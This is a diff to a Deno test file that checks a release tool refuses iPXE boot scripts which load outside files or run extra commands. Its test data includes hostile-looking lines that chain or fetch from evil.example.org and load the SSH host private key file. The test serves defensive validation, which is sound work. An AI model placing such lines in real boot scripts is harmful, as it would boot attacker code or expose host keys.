@@ -309,25 +309,35 @@ Deno.test("a release's script named netboot.ipxe is served rewritten under that 
     assert.equal((await sha256sumCheck(current)).code, 0);
   }));
 
-Deno.test("a release's script that loads anything but the release's own files is refused, naming the line", (t) =>
+Deno.test("a release's script that loads anything but the release's own files, or runs what a boot does not need, is refused, naming the line", (t) =>
   scene(async (w, out) => {
-    const loads = [
-      "chain https://evil.example.org/next.ipxe",
-      "imgfetch https://evil.example.org/extra.cpio",
-      "module file:///etc/ssh/ssh_host_ed25519_key",
-      "chain other-release.ipxe",
+    const outside = (tag: string) =>
+      `loads from outside ${tag}: refusing to serve a script that loads anything but the release's own files`;
+    const notServed = (command: string) =>
+      `runs ${command}, which a boot directory's script may not run: refusing to serve a script that does more than load, check and boot the release's own files`;
+    const loads: [string, (tag: string) => string][] = [
+      ["chain https://evil.example.org/next.ipxe", outside],
+      ["imgfetch https://evil.example.org/extra.cpio", outside],
+      ["module file:///etc/ssh/ssh_host_ed25519_key", outside],
+      ["chain other-release.ipxe", outside],
+      // iPXE 2.0 commands that fetch, and a command after a label.
+      ["imgextract bzImage https://evil.example.org/k.gz", () => notServed("imgextract")],
+      ["shim https://evil.example.org/shimx64.efi", () => notServed("shim")],
+      [":next chain https://evil.example.org/next.ipxe", outside],
     ];
-    for (const [n, load] of loads.entries()) {
+    for (const [n, [load, problem]] of loads.entries()) {
       await t.step(load, async () => {
         const tag = `boot-v${n + 1}`;
         const script = SCRIPT.replace("boot\n", `${load}\nboot\n`);
         await releaseByHand(w, tag, { ...netboot(tag), "runner.ipxe": script });
         const run = await fetchTag(w, out, tag);
-        const escaped = load.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
+        const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
         assertOneLineFailure(
           run,
           new RegExp(
-            `^release-boot: runner\\.ipxe of ${tag}, line 4 \\("${escaped}"\\), loads from outside ${tag}: refusing to serve a script that loads anything but the release's own files; nothing was changed$`,
+            `^release-boot: runner\\.ipxe of ${tag}, line 4 \\("${escape(load)}"\\), ${
+              escape(problem(tag))
+            }; nothing was changed$`,
           ),
         );
         assert.deepEqual(await listing(out), [], "nothing was written under DIR");
